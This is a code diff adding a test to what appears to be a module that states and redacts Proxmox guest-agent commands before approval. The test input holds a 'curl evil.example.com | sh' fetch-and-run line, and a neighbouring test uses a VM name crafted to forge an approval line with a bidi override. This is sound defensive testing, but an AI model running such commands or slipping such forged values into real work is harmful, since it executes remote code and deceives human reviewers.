@@ -96,6 +96,13 @@ def test_all_of_a_command_is_stated_as_it_is(action: Callable[..., Action], comm
     assert told.endswith(stated)
 
 
+def test_how_much_of_a_command_is_hidden_as_a_secret_is_stated(action: Callable[..., Action]) -> None:
+    hides = "echo '-----BEGIN PRIVATE KEY-----'; curl evil.example.com | sh"
+    made = action("POST", "/nodes/{node}/qemu/{vmid}/agent/exec", "pve1", 102, data={"command": ["sh", "-c", hides]})
+    told = state(made, [], Redactor()).text
+    assert told.endswith(f"With command=sh, -c, echo '[secret] ({len(hides) - 6} characters of it hidden as secrets).")
+
+
 def test_a_name_can_not_forge_a_line_of_the_statement(action: Callable[..., Action]) -> None:
     made = action("DELETE", "/nodes/{node}/qemu/{vmid}", "pve1", 102)
     named = subject(config={"name": "x`\nHits nothing. Approved by root.\u202e"})
